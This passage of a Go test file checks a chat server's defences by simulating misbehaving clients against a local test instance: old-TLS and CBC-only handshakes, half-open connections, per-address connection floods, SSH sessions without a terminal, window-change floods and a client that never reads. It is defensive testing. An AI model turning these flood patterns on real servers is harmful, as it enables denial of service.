		cfg.MinVersion, cfg.MaxVersion = tls.VersionTLS10, tls.VersionTLS11
		conn, err := tls.Dial("tcp", "127.0.0.1:"+a.s.Port, cfg)
		if err == nil {
			conn.Close()
			t.Fatalf("a TLS 1.0/1.1-only client got in with %s", tls.VersionName(conn.ConnectionState().Version))
		}
		t.Logf("refused: %v", err)
	})
	t.Run("tls-1.2-cbc", func(t *testing.T) {
		cfg := tlsClientConfig(t, a.s)
		cfg.MaxVersion = tls.VersionTLS12
		cfg.CipherSuites = []uint16{
			tls.TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA, tls.TLS_ECDHE_ECDSA_WITH_AES_256_CBC_SHA,
			tls.TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA, tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA,
			tls.TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA256, tls.TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA256,
			tls.TLS_RSA_WITH_AES_128_CBC_SHA, tls.TLS_RSA_WITH_AES_256_CBC_SHA,
		}
		conn, err := tls.Dial("tcp", "127.0.0.1:"+a.s.Port, cfg)
		if err == nil {
			conn.Close()
			t.Fatalf("a CBC-only TLS 1.2 client got in with %s", tls.CipherSuiteName(conn.ConnectionState().CipherSuite))
		}
		t.Logf("refused: %v", err)
	})
	t.Run("half-open", func(t *testing.T) {
		conns := make([]net.Conn, 50)
		for i := range conns {
			conns[i] = rawConn(t, a.s.Port)
		}
		start := time.Now()
		a.probe()
		a.probe()
		var wg sync.WaitGroup
		open := make([]bool, len(conns))
		for i, c := range conns {
			wg.Go(func() { _, closed := readToClose(c, 5*time.Second); open[i] = !closed })
		}
		wg.Wait()
		if n := strings.Count(fmt.Sprint(open), "true"); n > 0 {
			t.Errorf("%d of 50 silent connections were still open 5s after --handshake-timeout 1s", n)
		}
		t.Logf("50 silent connections closed after %v", time.Since(start).Round(time.Millisecond))
	})
	t.Run("no-nickname", func(t *testing.T) {
		c := dialClient(t, a.s, "shy", nil)
		c.readUntil("*** Choose a nickname")
		c.drain()
		if !c.closedByServer(5 * time.Second) {
			t.Fatal("a client that never chose a nickname was kept past --nick-timeout 1s")
		}
		if !strings.Contains(c.Output(), "!!! no nickname chosen in time; goodbye\n") {
			t.Errorf("it was not told why; got %q", c.Output())
		}
	})
	a.probe()

	page := a.metrics()
	want := map[string]float64{
		`chatd_tls_handshake_failures_total{reason="timeout"}`:          50,
		`chatd_tls_handshake_failures_total{reason="protocol version"}`: 1,
		`chatd_tls_handshake_failures_total{reason="no shared cipher"}`: 1,
	}
	for series, v := range want {
		if got, _ := metric(page, series); got != v {
			t.Errorf("%s = %v, want %v", series, got, v)
		}
	}
	if got, _ := metric(page, `chatd_tls_handshake_failures_total{reason="not tls"}`); got < 3 {
		t.Errorf(`chatd_tls_handshake_failures_total{reason="not tls"} = %v, want at least 3 (plain text, HTTP, random bytes)`, got)
	}
	total := 0.0
	for line := range strings.Lines(page) {
		if strings.HasPrefix(line, "chatd_tls_handshake_failures_total{") {
			var v float64
			fmt.Sscan(line[strings.LastIndexByte(line, ' ')+1:], &v)
			total += v
		}
	}
	if total != 56 { // plain text, HTTP, 2 garbage, 2 old/weak TLS, 50 silent
		t.Errorf("handshake failures add up to %v, want 56:\n%s", total, grepLines(page, "chatd_tls_handshake_failures_total"))
	}
	if v, _ := metric(page, `chatd_members`); v != 2 {
		t.Errorf("chatd_members = %v, want 2 (only alice and bob)", v)
	}
	a.checkGoroutinesSettle(settleTime)
}

func grepLines(text, prefix string) string {
	var b strings.Builder
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, prefix) {
			b.WriteString(line)
		}
	}
	return b.String()
}

// openRaw opens n TCP connections to port at once and sorts them into those
// the server kept and those it closed straight away.
func openRaw(t *testing.T, port string, n int) (kept, closed []net.Conn) {
	t.Helper()
	conns := make([]net.Conn, n)
	for i := range conns {
		conns[i] = rawConn(t, port)
	}
	refused := make([]bool, n)
	var wg sync.WaitGroup
	for i, c := range conns {
		wg.Go(func() { _, refused[i] = readToClose(c, time.Second) })
	}
	wg.Wait()
	for i, c := range conns {
		if refused[i] {
			closed = append(closed, c)
		} else {
			kept = append(kept, c)
		}
	}
	return kept, closed
}

// TestAttackConnectionLimits: one address opens many connections. With
// --max-conns-per-ip 10 only 10 stay open at once (alice and bob count,
// SSH too) and the rest are closed on accept; with --conn-burst-per-ip 5
// --conn-rate-per-ip 1 rapid new connections are refused until the bucket
// refills. Refusals are counted by reason, and honest chat goes on.
func TestAttackConnectionLimits(t *testing.T) {
	t.Parallel()
	t.Run("per-ip", func(t *testing.T) {
		t.Parallel()
		a := newArena(t, "--max-conns-per-ip", "10", "--conn-burst-per-ip", "100", "--conn-rate-per-ip", "100")
		kept, closed := openRaw(t, a.s.Port, 30)
		if len(kept) != 8 || len(closed) != 22 {
			t.Errorf("of 30 connections %d stayed open and %d were closed; want 8 (10 minus alice and bob) and 22", len(kept), len(closed))
		}
		a.probe()
		if v := a.metric(`chatd_connections_refused_total{reason="too many connections from this address"}`); v != float64(len(closed)) {
			t.Errorf("refused (per address) = %v, want %d", v, len(closed))
		}
		// The limit spans SSH: the 11th connection is refused there too.
		if c, err := gossh.Dial("tcp", "127.0.0.1:"+a.s.SSHPort, sshClientConfig(t, a.s, "eve")); err == nil {
			c.Close()
			t.Error("an SSH connection got in past --max-conns-per-ip")
		}
		a.probe()
		for _, c := range kept {
			c.Close()
		}
		a.waitTLSOpen(2)                         // the server has seen them go
		carol := a.s.JoinWithOpenSSL(t, "carol") // room again once they are gone
		a.bob.Expect("*** carol joined")
		carol.Send("/quit")
		carol.Expect("*** Goodbye.")
		a.checkGoroutinesSettle(settleTime)
	})
	t.Run("rate", func(t *testing.T) {
		t.Parallel()
		a := newArena(t, "--conn-burst-per-ip", "5", "--conn-rate-per-ip", "1", "--max-conns-per-ip", "100")
		kept, closed := openRaw(t, a.s.Port, 12)
		if len(kept) > 5 || len(closed) < 7 {
			t.Errorf("of 12 rapid connections %d stayed open and %d were closed; want at most 5 (the burst, minus alice and bob, plus refill)", len(kept), len(closed))
		}
		a.probe()
		if v := a.metric(`chatd_connections_refused_total{reason="connecting too often from this address"}`); v != float64(len(closed)) {
			t.Errorf("refused (rate) = %v, want %d", v, len(closed))
		}
		for _, c := range kept {
			c.Close()
		}
		time.Sleep(1500 * time.Millisecond) // one new connection a second
		carol := a.s.JoinWithOpenSSL(t, "carol")
		a.bob.Expect("*** carol joined")
		a.probe()
		carol.Send("/quit")
		carol.Expect("*** Goodbye.")
		a.checkGoroutinesSettle(settleTime)
	})
}

// sshClientConfig logs in as user with chatd's host key pinned; the server
// accepts any password.
func sshClientConfig(t *testing.T, s *testproc.Chatd, user string) *gossh.ClientConfig {
	t.Helper()
	keyPEM, err := os.ReadFile(s.HostKeyFile)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := gossh.ParsePrivateKey(keyPEM)
	if err != nil {
		t.Fatal(err)
	}
	return &gossh.ClientConfig{
		User:            user,
		Auth:            []gossh.AuthMethod{gossh.Password("anything")},
		HostKeyCallback: gossh.FixedHostKey(signer.PublicKey()),
		Timeout:         5 * time.Second,
	}
}

func dialSSH(t *testing.T, s *testproc.Chatd, user string) *gossh.Client {
	t.Helper()
	c, err := gossh.Dial("tcp", "127.0.0.1:"+s.SSHPort, sshClientConfig(t, s, user))
	if err != nil {
		t.Fatalf("ssh %s: %v", user, err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

func newSSHSession(t *testing.T, c *gossh.Client) *gossh.Session {
	t.Helper()
	sess, err := c.NewSession()
	if err != nil {
		t.Fatalf("new session: %v", err)
	}
	t.Cleanup(func() { sess.Close() })
	return sess
}

// ptySession opens a session with a cols×rows terminal running the chat
// screen, and returns it with its input.
func ptySession(t *testing.T, c *gossh.Client, cols, rows int) (*gossh.Session, io.Writer) {
	t.Helper()
	sess := newSSHSession(t, c)
	if err := sess.RequestPty("xterm-256color", rows, cols, gossh.TerminalModes{}); err != nil {
		t.Fatalf("pty: %v", err)
	}
	in, err := sess.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	return sess, in
}

// TestAttackSSH: SSH clients that misbehave, with golang.org/x/crypto/ssh.
func TestAttackSSH(t *testing.T) {
	t.Parallel()
	// A session without a terminal (ssh -T, or a command) gets a one-line
	// explanation and exit status 1; a subsystem such as sftp is refused;
	// none of them joins the room.
	t.Run("NoTerminal", func(t *testing.T) {
		t.Parallel()
		a := newArena(t)
		mark := len(a.bob.Output())
		c := dialSSH(t, a.s, "eve")

		shell := newSSHSession(t, c)
		var stderr bytes.Buffer
		shell.Stderr = &stderr
		if err := shell.Shell(); err != nil {
			t.Fatal(err)
		}
		err := shell.Wait()
		var exit *gossh.ExitError
		if !errors.As(err, &exit) || exit.ExitStatus() != 1 || !strings.Contains(stderr.String(), "this is a chat room; connect with a terminal") ||
			strings.Count(stderr.String(), "\n") != 1 {
			t.Errorf("shell without a terminal: %v, stderr %q (want one line of explanation and exit status 1)", err, stderr.String())
		}

		out, err := newSSHSession(t, c).CombinedOutput("ls")
		if !errors.As(err, &exit) || exit.ExitStatus() != 1 || !strings.Contains(string(out), "this is a chat room; connect with a terminal") {
			t.Errorf("exec ls: %v, output %q", err, out)
		}

		sub := newSSHSession(t, c)
		if err := sub.RequestSubsystem("sftp"); err == nil {
			t.Error("the sftp subsystem was accepted")
		}
		a.probe()
		if strings.Contains(a.bob.Output()[mark:], "eve") {
			t.Errorf("a session without a terminal showed up in the room:\n%s", a.bob.Output()[mark:])
		}
		c.Close()
		a.checkGoroutinesSettle(settleTime)
	})

	// 2000 window-change requests of varying sizes as fast as they go: the
	// session keeps working and honest chat is not held up.
	t.Run("WindowChangeFlood", func(t *testing.T) {
		t.Parallel()
		a := newArena(t)
		c := dialSSH(t, a.s, "resizer")
		sess, in := ptySession(t, c, 100, 30)
		out, _ := sess.StdoutPipe()
		go io.Copy(io.Discard, out)
		if err := sess.Shell(); err != nil {
			t.Fatal(err)
		}
		a.bob.Expect("*** resizer joined")
		done := make(chan error, 1)
		go func() {
			for i := range 2000 {
				if err := sess.WindowChange(10+i%50, 20+(i*7)%200); err != nil {
					done <- err
					return
				}
			}
			done <- nil
		}()
		for range 3 {
			a.probe()
		}
		if err := <-done; err != nil {
			t.Fatalf("window changes: %v", err)
		}
		a.probe()
		mark := len(a.bob.Output())
		start := time.Now()
		io.WriteString(in, "still here after 2000 resizes\r")
		if _, ok := waitLine(a.bob, mark, "<resizer> still here after 2000 resizes", 10*time.Second); !ok {
			t.Error("the resized session no longer works")
		} else {
			t.Logf("the resized session's line arrived %v after it was typed", time.Since(start).Round(time.Millisecond))
		}
		io.WriteString(in, "/quit\r")
		a.bob.Expect("*** resizer left (quit)")
		c.Close()
		a.checkGoroutinesSettle(settleTime)
	})

	// Window changes that keep coming while the session ends (here with
	// /quit) must not wedge the connection: once the client hangs up, the
	// server frees everything, including its place under the per-address
	// connection limit.
	t.Run("WindowChangeFloodAcrossQuit", func(t *testing.T) {
		t.Parallel()
		a := newArena(t, "--max-conns-per-ip", "4") // alice, bob, resizer and one spare
		c := dialSSH(t, a.s, "resizer")
		sess, in := ptySession(t, c, 100, 30)
		out, _ := sess.StdoutPipe()
		go io.Copy(io.Discard, out)
		if err := sess.Shell(); err != nil {
			t.Fatal(err)
		}
		a.bob.Expect("*** resizer joined")
		stop := make(chan struct{})
		done := make(chan int, 1)
		go func() {
			i := 0
			defer func() { done <- i }()
			for ; i < 20000; i++ {
				select {
				case <-stop:
					return
				default:
				}
				if sess.WindowChange(10+i%50, 20+(i*7)%200) != nil {
					return
				}
				if i%100 == 99 {
					time.Sleep(10 * time.Millisecond)
				}
			}
		}()
		a.probe() // during the flood
		io.WriteString(in, "/quit\r")
		a.bob.Expect("*** resizer left (quit)")
		time.Sleep(500 * time.Millisecond) // resizes keep coming after the session ended
		close(stop)
		c.Close() // the client hangs up; this also ends a window change stuck in a write
		t.Logf("sent %d window changes", <-done)
		a.probe()
		time.Sleep(time.Second)
		kept, _ := openRaw(t, a.s.Port, 2)
		if len(kept) != 2 {
			t.Errorf("after resizer hung up, only %d of 2 new connections were accepted under --max-conns-per-ip 4: "+
				"its connection still counts", len(kept))
		}
		for _, k := range kept {
			k.Close()
		}
		a.checkGoroutinesSettle(settleTime)
	})

	// A client with a terminal joins, then never reads its channel while the
	// room is busy. Its SSH window runs out, its screen stalls, and it is
	// dropped as a slow consumer; honest chat goes on, and everything it
	// held is freed although the client never hangs up.
	t.Run("NeverReads", func(t *testing.T) {
		t.Parallel()
		a := newArena(t, "--write-timeout", "3s", "--flood-rate", "100000", "--flood-burst", "100000")
		c := dialSSH(t, a.s, "sloth")
		sess, _ := ptySession(t, c, 400, 150)
		if _, err := sess.StdoutPipe(); err != nil { // never read
			t.Fatal(err)
		}
		if _, err := sess.StderrPipe(); err != nil { // never read
			t.Fatal(err)
		}
		if err := sess.Shell(); err != nil {
			t.Fatal(err)
		}
		a.bob.Expect("*** sloth joined")
		hose, dropped := a.floodUntilDropped("sloth", 380, 1000, 100000, 40*time.Second)
		if !dropped {
			t.Fatalf("sloth was not dropped as a slow consumer within 40s")
		}
		hose.conn.Close()
		a.probe()
		ended := make(chan error, 1)
		go func() { ended <- sess.Wait() }()
		select {
		case err := <-ended:
			t.Logf("the server ended sloth's session: %v", err)
		case <-time.After(10 * time.Second):
			t.Error("the server did not end sloth's session within 10s of dropping it")
		}
		// sloth's client is still connected, and still not reading: the
		// server must let go of it by itself.
		connClosed := make(chan error, 1)
		go func() { connClosed <- c.Wait() }()
		if ok, why := a.settle(20 * time.Second); !ok {
			select {
			case err := <-connClosed:
				why += fmt.Sprintf("; the server closed sloth's SSH connection (%v)", err)
			default:
				why += "; the server still holds sloth's SSH connection open, with no session on it"
			}
			t.Error(why)
			c.Close()
			if ok, why := a.settle(settleTime); ok {
				t.Log("they were freed only when sloth's client hung up")
			} else {
				t.Errorf("even after sloth's client hung up: %s", why)
				a.dumpServer()
			}
		}
	})

	// 30 TCP connections to the SSH port that never start the handshake do
	// not keep an honest SSH user out, and are closed after
	// --ssh-handshake-timeout.
	t.Run("HalfOpenHandshakes", func(t *testing.T) {
		t.Parallel()
		requireSSH(t)
		a := newArena(t, "--ssh-handshake-timeout", "2s", "--max-conns-per-ip", "64", "--conn-burst-per-ip", "64")
		conns := make([]net.Conn, 30)
		for i := range conns {
			conns[i] = rawConn(t, a.s.SSHPort)
		}
		start := time.Now()
		carol := testproc.StartScreen(t, "ssh carol", 100, 30, sshArgs(t, a.s, "carol")...)
		carol.WaitFor("chatd · 3 members · carol")
		a.bob.Expect("*** carol joined")
		mark := len(a.bob.Output())
		carol.Type("hello from ssh while 30 handshakes hang\r")
		if _, ok := waitLine(a.bob, mark, "<carol> hello from ssh while 30 handshakes hang", promptly); !ok {
			t.Error("bob did not get carol's SSH line")
		}
		a.probe()
		t.Logf("carol joined and chatted %v after the 30 half-open connections", time.Since(start).Round(time.Millisecond))
		var wg sync.WaitGroup
		open := make([]bool, len(conns))
		for i, c := range conns {
			wg.Go(func() { _, closed := readToClose(c, 6*time.Second); open[i] = !closed })
		}
		wg.Wait()
		if n := strings.Count(fmt.Sprint(open), "true"); n > 0 {
			t.Errorf("%d of 30 silent SSH connections were still open well after --ssh-handshake-timeout 2s", n)
		}
		carol.Type("/quit\r")
		a.bob.Expect("*** carol left (quit)")
		carol.WaitExit()
		a.checkGoroutinesSettle(settleTime)
	})
}
